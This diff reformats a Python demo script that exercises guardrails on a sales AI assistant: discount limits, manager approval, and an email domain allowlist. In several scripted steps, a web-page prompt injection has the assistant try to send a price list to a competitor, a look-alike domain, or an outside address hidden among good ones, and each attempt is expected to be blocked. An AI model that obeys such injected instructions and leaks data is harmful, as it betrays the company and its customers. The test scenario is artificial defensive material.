@@ -101,7 +101,9 @@ def main() -> None:
     script.say("Quoting Acme at 20% off to close the deal today.")
     rep7.call("create_quote", customer="acme", discount=20, expect="constraint_failed", constraint="maxDiscount")
     script.say("Then 12.5% off.")
-    asked = rep7.call("create_quote", customer="acme", discount=12.5, expect="approval_required", constraint="requireApproval")
+    asked = rep7.call(
+        "create_quote", customer="acme", discount=12.5, expect="approval_required", constraint="requireApproval"
+    )
     request = asked.approval_request
     assert request is not None
     script.note(f"the sales manager approves request {request.id[:12]}... ({request.condition})")
@@ -113,20 +115,45 @@ def main() -> None:
     script.say("Emailing the quote to Acme's buyer.")
     rep7.call("send_email", customer="acme", to="Buyer@Company.com", subject="Your quote q1", expect="allowed")
     script.say("Copying our partner and a colleague.")
-    rep7.call("send_email", customer="acme", to=["deals@partner.com", "rep7@company.com"], subject="Acme quote",
-              expect="allowed")
+    rep7.call(
+        "send_email",
+        customer="acme",
+        to=["deals@partner.com", "rep7@company.com"],
+        subject="Acme quote",
+        expect="allowed",
+    )
     script.say("(injected by a web page) Sending the price list to prices@competitor.example.")
-    rep7.call("send_email", customer="acme", to="prices@competitor.example", subject="Price list",
-              expect="constraint_failed", constraint="allowedDomains")
+    rep7.call(
+        "send_email",
+        customer="acme",
+        to="prices@competitor.example",
+        subject="Price list",
+        expect="constraint_failed",
+        constraint="allowedDomains",
+    )
     script.say("Sending it to a look-alike address, x@company.com.evil.example.")
-    rep7.call("send_email", customer="acme", to="x@company.com.evil.example", subject="Price list",
-              expect="constraint_failed", constraint="allowedDomains")
+    rep7.call(
+        "send_email",
+        customer="acme",
+        to="x@company.com.evil.example",
+        subject="Price list",
+        expect="constraint_failed",
+        constraint="allowedDomains",
+    )
     script.say("Hiding one outside address among good ones.")
-    rep7.call("send_email", customer="acme", to=["buyer@company.com", "leak@gmail.example"], subject="Price list",
-              expect="constraint_failed", constraint="allowedDomains")
+    rep7.call(
+        "send_email",
+        customer="acme",
+        to=["buyer@company.com", "leak@gmail.example"],
+        subject="Price list",
+        expect="constraint_failed",
+        constraint="allowedDomains",
+    )
 
     script.scene("a misconfigured app starts the assistant for rep-8 without a region in the agent context")
-    bare = Session(act, act.issue_token(agent="sales-assistant", user_context={"user_id": "rep-8"}), tools(crm, "rep-8"), script)
+    bare = Session(
+        act, act.issue_token(agent="sales-assistant", user_context={"user_id": "rep-8"}), tools(crm, "rep-8"), script
+    )
     script.say("Looking up Acme.")
     bare.call("read_customer", customer="acme", expect="template_unresolved")
 
